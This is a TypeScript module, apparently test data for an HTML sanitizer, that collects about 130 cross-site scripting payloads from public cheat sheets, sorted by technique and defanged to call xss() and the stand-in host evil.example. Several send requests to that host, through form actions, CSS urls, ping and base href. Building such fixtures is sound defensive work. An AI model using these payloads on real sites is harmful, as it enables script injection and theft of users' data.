import { EVENT_HANDLERS } from './eventHandlers';
import { HOSTILE_URLS } from './hostileUrls';

/**
 * Texts and URLs that have run scripts on other sites, by family: OWASP's "XSS Filter Evasion Cheat
 * Sheet", PortSwigger's "Cross-site scripting cheat sheet", html5sec.org. What they try to run is
 * `xss()`; where they try to send something is `evil.example`.
 */
const EVIL = 'https://evil.example/x';

const CLOSERS = ['title', 'textarea', 'style', 'script', 'noscript', 'template', 'iframe', 'xmp'];

const SINGLE = [
  // script elements, whole and broken
  '<script>xss()</script>',
  '<script src=https://evil.example/x></script>',
  '<SCRIPT/x>xss()</SCRIPT>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<script>xss()//',
  '<script\x00>xss()</script>',
  '<script type=module>xss()</script>',
  '<script nonce="x">xss()</script>',
  '<<script>xss();//<</script>',
  // out of JSON-LD, of data in scripts, of comments and CDATA
  '</script><script>xss()</script>',
  '</ScRiPt ><script>xss()</script>',
  '"}]}</script><script>xss()</script>',
  '<!--<script>',
  '<!--<script></script><script>xss()</script>-->',
  '--><script>xss()</script>',
  '--!><img src=x onerror=xss()>',
  ']]><script>xss()</script>',
  '<![CDATA[<script>xss()</script>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">xss()</script>',
  '"-xss()-"',
  "'-xss()-'",
  '\\"-xss()//',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '";xss();//',
  "';xss();//",
  '\u2028xss()\u2029',
  '\n</script>\n<svg onload=xss()>',
  '__proto__',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=xss()>"}}}',
  // out of attributes
  '" onmouseover="xss()',
  "' onmouseover='xss()",
  '` onmouseover=`xss()',
  '" autofocus onfocus=xss() x="',
  '" style="position:fixed;inset:0" onclick="xss()',
  '" srcdoc="<script>parent.xss()</script>',
  '" formaction="javascript:xss()',
  '" is="x" ping="https://evil.example/x',
  '"=""><svg onload=xss()>',
  // entities, once and twice
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;script&#62;xss()&#60;/script&#62;',
  '&#x3c;img src=x onerror=xss()&#x3e;',
  '&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;',
  '&quot;&gt;&lt;svg onload=xss()&gt;',
  '%3Cscript%3Exss()%3C/script%3E',
  '%253Cscript%253Exss()%253C/script%253E',
  '&NewLine;&Tab;javascript&colon;xss&lpar;&rpar;',
  // svg and math
  '<svg><script>xss()</script></svg>',
  '<svg><script href="data:,xss()"/></svg>',
  '<svg><a xlink:href="javascript:xss()"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:xss()"/></foreignObject></svg>',
  '<svg><style><img src=x onerror=xss()></style></svg>',
  '<math><mi xlink:href="javascript:xss()">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
  '<math><annotation-xml encoding="text/html"><script>xss()</script></annotation-xml></math>',
  // css
  '<style>@import "https://evil.example/x";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '</style><style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x>',
  '<p style="background:url(https://evil.example/x)">x',
  '<p style="width:expression(xss())">x',
  '<p style="-moz-binding:url(https://evil.example/x#xss)">x',
  '<b style="position:fixed;inset:0;z-index:9">x',
  ');background:url(https://evil.example/x',
  // the document itself
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/x">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<form action="https://evil.example/x"><input name=q autofocus>',
  '<form id=x></form><button form=x formaction="javascript:xss()">x</button>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object data="data:text/html,<script>parent.xss()</script>"></object>',
  '<portal src="https://evil.example/x">',
  '<a href="https://evil.example/x" ping="https://evil.example/x">x</a>',
  '<a id=defaultView name=xss>x</a><img name=getElementById>',
  '<template shadowrootmode=open><script>xss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<plaintext>',
  '</body></html><script>xss()</script>',
  '<select><template><img src=x onerror=xss()></template></select>',
  '<!doctype html><html><head><script>xss()</script>',
  // templates
  '{{constructor.constructor("xss()")()}}',
  '{{$on.constructor("xss()")()}}',
  '${xss()}',
  '#{xss()}',
  '<%= xss() %>',
  '{%raw%}<script>xss()</script>{%endraw%}',
  '[[${xss()}]]',
  '{count, plural, one {<script>xss()</script>} other {x}}',
  '<b>{query}</b><query></query>',
  '$& $1 $` $$ %s %d %o %c',
  // scripts, bidi and broken text
  '\uFEFF<script>xss()</script>',
  '\u202E>tpircs/<)(ssx>tpircs<',
  '\u2066<script>\u2069xss()\u202C</script>',
  '＜script＞xss()＜/script＞',
  '‹script›xss()‹/script›',
  '\u00BCscript\u00BExss()\u00BC/script\u00BE',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '<\u0000script>xss()</script>',
  '<scr\u0000ipt>xss()</scr\u0000ipt>',
  '<img\u000bsrc=x\u000conerror=xss()>',
  '<script\u200D>xss()</script\u200C>',
  '\ud83d<script>xss()</script>\ude42',
  'मुख्य<img src=x onerror=xss()>मंत्री',
  'क\u094D<svg onload=xss()>\u093F',
  // Markdown and mail
  '[x](javascript:xss())',
  '![x](https://evil.example/x)',
  '<javascript:xss()>',
  '[x]: javascript:xss()',
  '```\n</script><script>xss()</script>',
  '=HYPERLINK("https://evil.example/x","x")',
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>xss()</script>',
  // many at once
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=xss() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e',
  '"\'--></style></script><svg/onload=xss()>{{7*7}}${7*7}<%=7*7%>',
  '`"\'><img src=x onerror=xss()>//\\u0022',
] as const;

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...EVENT_HANDLERS,
    ...HOSTILE_URLS,
    ...CLOSERS.map((name) => `</${name}><img src=${EVIL} onerror=xss()>`),
    ...SINGLE,
  ]),
];
